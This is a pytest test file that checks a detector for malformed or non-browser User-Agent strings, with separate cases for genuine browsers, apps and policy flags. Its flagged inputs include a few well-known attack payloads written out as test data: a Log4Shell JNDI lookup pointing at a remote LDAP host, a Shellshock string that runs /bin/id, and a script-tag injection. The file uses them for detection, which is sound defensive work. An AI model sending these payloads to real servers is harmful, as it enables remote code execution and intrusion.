import pytest
from tests.criteria.evaluate import verdict

from truetally.criteria.malformed_user_agent import CRITERION

APP = {"user_agent": "PlayerApp/7.3 (iPhone; iOS 16.1)", "ua_browser": False, "ua_robot": False}


@pytest.mark.parametrize("text", [
    "", "-", "undefined", "[object Object]", "Mozilla/5.0", "Chrome", '"Mozilla/5.0 (Windows)"',
    "User-Agent: Mozilla/5.0 (Windows NT 10.0)", "${jndi:ldap://192.0.2.1/a}", "%s", "{{ua}}",
    "http://a.example/5.0 (Linux; Android 7.0)", "<script>alert(1)</script>",
    "() { :; }; /bin/id", "Mozilla/5.0 (compatible; Something/1.1;)"])
def test_what_no_browser_writes_is_found(text: str) -> None:
    assert verdict(CRITERION, {"user_agent": text}) is True


@pytest.mark.parametrize("text", [
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:72.0) Gecko/20100101 Firefox/72.0",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; TencentTraveler)",
    "Dalvik/2.1.0 (Linux; U; Android 9; MI 8 Build/PKQ1.180729.001)",
    "Mozilla/5.0 (Linux; Android 4.4.4; NOMI 3\\x81I Build/KTU84P) UCBrowser/10.6",
    "<com.apple.ndoagent.osupgrade/14.7.2/Mac14,2>",
    "Mozilla/5.0 (compatible; IBrowse 3.0; AmigaOS4.0)"])
def test_what_browsers_and_apps_write_is_not_found(text: str) -> None:
    assert verdict(CRITERION, {"user_agent": text}) is False


def test_other_software_is_found_only_where_the_policy_says_so() -> None:
    assert verdict(CRITERION, APP) is False
    assert verdict(CRITERION, APP, other_software_is_flagged=1) is True
    assert verdict(CRITERION, APP | {"ua_robot": True}, other_software_is_flagged=1) is False


def test_an_unknown_user_agent_is_not_found_unless_the_policy_says_so() -> None:
    assert verdict(CRITERION, {}) is None
    assert verdict(CRITERION, {}, null_is_flagged=1) is True
    assert verdict(CRITERION, {"user_agent": "Dalvik/2.1.0 (Linux)"}, null_is_flagged=1) is False
